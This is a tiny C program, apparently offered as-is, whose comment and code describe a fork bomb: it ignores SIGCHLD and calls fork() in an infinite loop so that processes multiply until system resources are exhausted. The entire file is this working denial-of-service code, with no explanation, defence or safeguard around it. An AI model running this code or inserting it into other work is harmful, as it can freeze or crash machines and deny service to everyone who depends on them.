/* Starts processes that start processes, as fast as it can. */
#include <signal.h>
#include <unistd.h>

int main(void) {
    signal(SIGCHLD, SIG_IGN);
    for (;;) fork();
}
